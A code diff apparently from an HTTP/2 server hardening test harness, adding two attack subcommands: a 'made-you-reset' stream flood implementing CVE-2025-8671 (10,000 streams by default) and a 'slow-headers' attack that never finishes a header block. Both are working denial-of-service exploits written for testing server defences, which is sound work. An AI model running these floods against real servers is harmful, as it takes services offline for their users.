@@ -767,6 +767,38 @@ def cmd_rapid_reset(args):
     cut_result(r, args, "rapid-reset", sent, {"responses": len(r.status)})
 
 
+def cmd_made_you_reset(args):
+    """CVE-2025-8671: streams the server itself must reset (content-length 1,
+    then 2 bytes of DATA): each still starts a request unless counted."""
+    r = Raw(args)
+    r.handshake()
+    fields = [(":method", "POST"), (":scheme", "https"), (":path", args.path),
+              (":authority", args.authority), ("content-length", "1")]
+    block = r.encoder.encode(fields)
+    later = r.encoder.encode(fields)
+
+    def make(i):
+        sid = 1 + 2 * i
+        return (HeadersFrame(sid, data=block if i == 0 else later,
+                             flags=["END_HEADERS"]).serialize() +
+                DataFrame(sid, data=b"xx", flags=["END_STREAM"]).serialize())
+    sent = flood_loop(r, args, args.streams, 100, make)
+    cut_result(r, args, "made-you-reset", sent, {"responses": len(r.status)})
+
+
+def cmd_slow_headers(args):
+    """A header block that never ends: HEADERS without END_HEADERS, then
+    nothing. The server must close within timeouts.request_header (the test
+    sets it short), not hold the connection."""
+    r = Raw(args)
+    r.handshake()
+    r.send(HeadersFrame(1, data=request_block("GET", args.path, args.authority)).serialize())
+    start = time.monotonic()
+    r.wait(r.calm)
+    emit({"ok": r.calm(), "attack": "slow-headers", "goaway": r.goaways, "closed": r.closed,
+          "seconds": round(time.monotonic() - start, 1)})
+
+
 def cmd_continuation(args):
     r = Raw(args)
     r.handshake()
@@ -978,6 +1010,9 @@ def main():
 
     a = attack("rapid-reset", cmd_rapid_reset)
     a.add_argument("--streams", type=int, default=10000)
+    a = attack("made-you-reset", cmd_made_you_reset)
+    a.add_argument("--streams", type=int, default=10000)
+    a = attack("slow-headers", cmd_slow_headers)
     a = attack("continuation", cmd_continuation)
     a.add_argument("--size", choices=["tiny", "large", "empty"], default="tiny")
     a.add_argument("--frames", type=int, default=0, help="the bound (0: by size)")
